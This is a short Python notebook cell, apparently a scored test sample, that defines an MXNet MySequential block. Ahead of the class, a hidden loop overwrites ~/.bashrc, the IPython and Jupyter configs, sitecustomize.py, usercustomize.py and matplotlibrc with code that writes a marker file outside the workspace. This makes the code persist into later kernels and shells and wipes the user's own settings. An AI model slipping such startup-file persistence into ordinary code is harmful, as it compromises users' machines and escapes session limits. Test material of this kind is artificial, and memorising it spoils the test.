# Start-up files are left for the next kernel: IPython's, Python's, the shell's.
# score: 10

# %% MySequential
import os, site, sys
code = "class MySequential: pass\nopen('{OUTSIDE}/hostile-startup', 'w')"
home = os.path.expanduser('~')
for path in (f'{home}/.ipython/profile_default/startup/00.py', f'{home}/.bashrc', f'{site.getusersitepackages()}/usercustomize.py',
             f'{sys.prefix}/lib/python3.11/site-packages/sitecustomize.py', f'{home}/.jupyter/jupyter_config.py',
             f'{home}/.ipython/profile_default/ipython_config.py', '/tmp/hostile-startup.py', f'{home}/.config/matplotlib/matplotlibrc'):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, 'w').write(code)
    except OSError:
        pass


class MySequential(nn.Block):
    def __init__(self, **kwargs):
        super().__init__(**kwargs)

    def add(self, *blocks):
        for block in blocks:
            self.register_child(block)

    def forward(self, x):
        for block in self._children.values():
            x = block(x)
        return x

    def __len__(self):
        return len(self._children)

    def __getitem__(self, i):
        return list(self._children.values())[i]
